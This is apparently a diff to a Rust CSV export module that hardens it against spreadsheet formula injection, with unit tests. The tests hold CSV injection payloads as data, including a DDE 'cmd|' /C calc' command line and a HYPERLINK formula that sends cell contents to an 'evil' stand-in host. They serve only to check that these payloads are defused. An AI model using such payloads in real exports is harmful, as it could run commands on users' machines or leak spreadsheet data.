@@ -20,9 +20,9 @@ pub const CSV_COLUMNS: [&str; 11] = [
 ];
 
 /// RFC 4180 CSV with a UTF-8 byte order mark (so spreadsheet programs read
-/// accents right) and CRLF line ends. A cell that a spreadsheet would run
-/// as a formula (`=`, `@`, or `+`/`-` not starting a number) is prefixed
-/// with `'`.
+/// accents right) and CRLF line ends. A cell that a spreadsheet could run
+/// as a formula is prefixed with `'` (see [`defuse_formula`]); a cell with
+/// a separator of any locale (`,`, `;`, tab) or a line break is quoted.
 pub fn referrals_csv(referrals: &[Referral]) -> String {
     let mut out = String::from("\u{feff}");
     push_row(&mut out, CSV_COLUMNS.iter().copied());
@@ -60,26 +60,81 @@ fn push_row<'a>(out: &mut String, cells: impl Iterator<Item = &'a str>) {
 }
 
 fn push_cell(out: &mut String, cell: &str) {
-    let mut chars = cell.chars();
-    let first = chars.next();
-    let second = chars.next();
-    let formula = match first {
-        Some('=' | '@' | '\t' | '\r') => true,
-        Some('+' | '-') => !second.is_some_and(|c| c.is_ascii_digit() || c == ' ' || c == '.'),
-        _ => false,
-    };
-    let text = if formula {
-        format!("'{cell}")
-    } else {
-        cell.to_owned()
-    };
-    if text.contains([',', '"', '\r', '\n']) {
+    let text = defuse_formula(cell);
+    // `;` and tab too: spreadsheets set to a locale whose list separator is
+    // `;` split unquoted cells there, and the piece after it would start a
+    // new cell (and a formula) of its own.
+    if text.contains([',', ';', '\t', '"', '\r', '\n']) {
         out.push('"');
         out.push_str(&text.replace('"', "\"\""));
         out.push('"');
     } else {
         out.push_str(&text);
     }
+}
+
+/// The cell as a spreadsheet may show it but never run it (OWASP's CSV
+/// injection advice): a cell that starts with `=`, `+`, `-`, `@`, a tab or
+/// a carriage return, or with any whitespace and then `=`, `+`, `-` or
+/// `@`, gets a leading `'`. Left as they are, because a spreadsheet can
+/// only read them as a number (no function, no reference, no link): a
+/// plain decimal number (`-12.5`, `+3`) and an international phone number
+/// (`+33 1 23 45 67 89`, `+1 (555) 010-0199`), see
+/// [`is_plain_number`] and [`is_phone_number`].
+pub fn defuse_formula(cell: &str) -> std::borrow::Cow<'_, str> {
+    let starts_formula = match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
+        Some(c) if c.is_whitespace() => cell.trim_start().starts_with(['=', '+', '-', '@']),
+        _ => false,
+    };
+    if starts_formula && !is_plain_number(cell) && !is_phone_number(cell) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// An optional sign, ASCII digits, and an optional `.` with more digits:
+/// `-12.5`, `+3`, `42`. Nothing else (no spaces, exponent or grouping).
+pub fn is_plain_number(cell: &str) -> bool {
+    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
+    let (whole, fraction) = match unsigned.split_once('.') {
+        Some((whole, fraction)) => (whole, Some(fraction)),
+        None => (unsigned, None),
+    };
+    all_digits(whole) && fraction.is_none_or(all_digits)
+}
+
+/// `+`, then groups of ASCII digits — each group may be in parentheses —
+/// separated by one space, `.` or `-`; 3 to 20 digits in all, at most 32
+/// characters: `+33 1 23 45 67 89`, `+33 (0)1 23 45 67 89`,
+/// `+1 (555) 010-0199`, `+44.20.7946.0958`.
+pub fn is_phone_number(cell: &str) -> bool {
+    let Some(rest) = cell.strip_prefix('+') else {
+        return false;
+    };
+    let digit_count = rest.bytes().filter(u8::is_ascii_digit).count();
+    if cell.len() > 32 || !(3..=20).contains(&digit_count) {
+        return false;
+    }
+    let mut groups = rest.split([' ', '.', '-']);
+    // The first group sits right after `+`, without parentheses.
+    groups.next().is_some_and(all_digits) && groups.all(phone_group)
+}
+
+/// `123`, `(0)1`, `(555)`: digits, after an optional parenthesised group.
+fn phone_group(group: &str) -> bool {
+    match group.strip_prefix('(') {
+        Some(open) => match open.split_once(')') {
+            Some((inside, after)) => all_digits(inside) && (after.is_empty() || all_digits(after)),
+            None => false,
+        },
+        None => all_digits(group),
+    }
+}
+
+fn all_digits(text: &str) -> bool {
+    !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit())
 }
 
 /// The referrals as a JSON array, as the export holds them.
@@ -119,6 +174,105 @@ mod tests {
             "r1,,\"Dupont, \"\"SA\"\"\",,,+33 1 23,\"'=HYPERLINK(\"\"x\"\")\",new,2016-01-15,,"
         );
         assert_eq!(lines.len(), 3, "header, one row, and the final CRLF");
+    }
+
+    /// `(cell, what the spreadsheet gets)`, checked one by one.
+    fn check_defused(cases: &[(&str, &str)]) {
+        for (cell, expected) in cases {
+            assert_eq!(defuse_formula(cell), *expected, "cell {cell:?}");
+        }
+    }
+
+    #[test]
+    fn every_formula_prefix_is_defused() {
+        check_defused(&[
+            // Formulas that start like a number still run: the old guard
+            // let these two through.
+            (
+                "-1+HYPERLINK(\"https://evil/?\"&B2,\"open\")",
+                "'-1+HYPERLINK(\"https://evil/?\"&B2,\"open\")",
+            ),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("=1+1", "'=1+1"),
+            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+            ("+A1", "'+A1"),
+            ("-A1", "'-A1"),
+            ("- 2+3", "'- 2+3"),
+            ("+.5+A1", "'+.5+A1"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\tplain", "'\tplain"),
+            ("\r=1+1", "'\r=1+1"),
+            // Spaces (or other whitespace) before a formula prefix.
+            ("  =1+1", "'  =1+1"),
+            (" +1+cmd|' /C calc'!A0", "' +1+cmd|' /C calc'!A0"),
+            ("\n-1+A1", "'\n-1+A1"),
+            ("\u{a0}@A1", "'\u{a0}@A1"),
+            // A phone number or a number padded with spaces is no longer
+            // one of the strict shapes.
+            (" +33 1 23 45 67 89", "' +33 1 23 45 67 89"),
+            // Phone-like but not: too few digits, letters, doubled
+            // separators, an unclosed parenthesis, too long.
+            ("+1-2", "'+1-2"),
+            ("+33 1 A3", "'+33 1 A3"),
+            ("+33  1 23 45", "'+33  1 23 45"),
+            ("+33 (0 1 23 45", "'+33 (0 1 23 45"),
+            ("+(33) 1 23 45", "'+(33) 1 23 45"),
+            (
+                "+1 234 567 890 123 456 789 012",
+                "'+1 234 567 890 123 456 789 012",
+            ),
+            // Number-like but not: exponent, two dots, no digits.
+            ("-1e5", "'-1e5"),
+            ("-1.2.3", "'-1.2.3"),
+            ("-", "'-"),
+            ("+", "'+"),
+            ("-.5", "'-.5"),
+            // Readable as they are.
+            ("+33 1 23 45 67 89", "+33 1 23 45 67 89"),
+            ("+33 (0)1 23 45 67 89", "+33 (0)1 23 45 67 89"),
+            ("+1 (555) 010-0199", "+1 (555) 010-0199"),
+            ("+44.20.7946.0958", "+44.20.7946.0958"),
+            ("+3312345678", "+3312345678"),
+            ("-12.5", "-12.5"),
+            ("-12", "-12"),
+            ("+3", "+3"),
+            ("12.5", "12.5"),
+            ("Dupont SA", "Dupont SA"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ]);
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() -> Result<(), serde_json::Error> {
+        let mut attack = referral(
+            "+1+cmd|' /C calc'!A0",
+            "-1+HYPERLINK(\"https://evil/?\"&B2,\"open\")",
+        );
+        attack.contact_name = Some(" =1+1".into());
+        attack.contact_phone = Some("+33 1 23 45 67 89".into());
+        attack.deal_value = Some(crate::export::DealValue {
+            amount: "-12.5".parse()?,
+            currency: "EUR".into(),
+        });
+        let csv = referrals_csv(&[attack]);
+        let row = csv.split("\r\n").nth(1).unwrap_or_default();
+        assert_eq!(
+            row,
+            "r1,,'+1+cmd|' /C calc'!A0,' =1+1,,+33 1 23 45 67 89,\
+             \"'-1+HYPERLINK(\"\"https://evil/?\"\"&B2,\"\"open\"\")\",new,2016-01-15,-12.5,EUR"
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn csv_quotes_every_locales_separator() {
+        let csv = referrals_csv(&[referral("Dupont;=1+1", "tab\there")]);
+        let row = csv.split("\r\n").nth(1).unwrap_or_default();
+        assert_eq!(
+            row,
+            "r1,,\"Dupont;=1+1\",,,+33 1 23,\"tab\there\",new,2016-01-15,,"
+        );
     }
 
     #[test]
